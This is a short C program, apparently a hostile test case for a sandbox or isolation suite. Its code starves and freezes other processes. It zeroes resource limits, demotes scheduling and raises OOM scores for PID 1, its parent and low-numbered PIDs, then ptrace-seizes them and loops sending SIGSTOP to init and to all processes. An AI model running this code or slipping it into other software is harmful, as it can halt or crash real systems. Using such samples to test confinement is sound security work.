// stops: stops all that it may, and takes limits, priority and processors from PID 1, its parent and the victim.
#include "hostile.h"

static void starve(int pid) {
    struct rlimit none = {0, 0}, few = {3, 3};
    int all[] = {RLIMIT_CPU, RLIMIT_FSIZE, RLIMIT_DATA, RLIMIT_STACK, RLIMIT_NPROC, RLIMIT_AS, RLIMIT_SIGPENDING, RLIMIT_MEMLOCK};
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) syscall(SYS_prlimit64, pid, all[i], &none, NULL);
    syscall(SYS_prlimit64, pid, RLIMIT_NOFILE, &few, NULL);
    struct sched_param idle = {0};
    sched_setscheduler(pid, SCHED_IDLE, &idle);
    setpriority(PRIO_PROCESS, pid, 19);
    syscall(SYS_ioprio_set, 1, pid, 3 << 13);
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    sched_setaffinity(pid, sizeof one, &one);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d", pid);
    put(path, "oom_score_adj", "1000");
    put(path, "timerslack_ns", "1000000000000");
    put(path, "coredump_filter", "0xff");
}

int main(int argc, char **argv) {
    (void)argc;
    starve(1);
    starve(getppid());
    for (int pid = 2; pid < 40; pid++)
        if (pid != getpid()) starve(pid);
    if (background()) {
        for (int pid = 1; pid < 40; pid++)
            if (pid != getpid()) ptrace(PTRACE_SEIZE, pid, 0, 0), ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        for (;;) {
            kill(1, SIGSTOP);
            kill(1, SIGTSTP);
            kill(-1, SIGSTOP);
            usleep(1000);
        }
    }
    kill(-1, SIGSTOP);
    return lab0(argv);
}
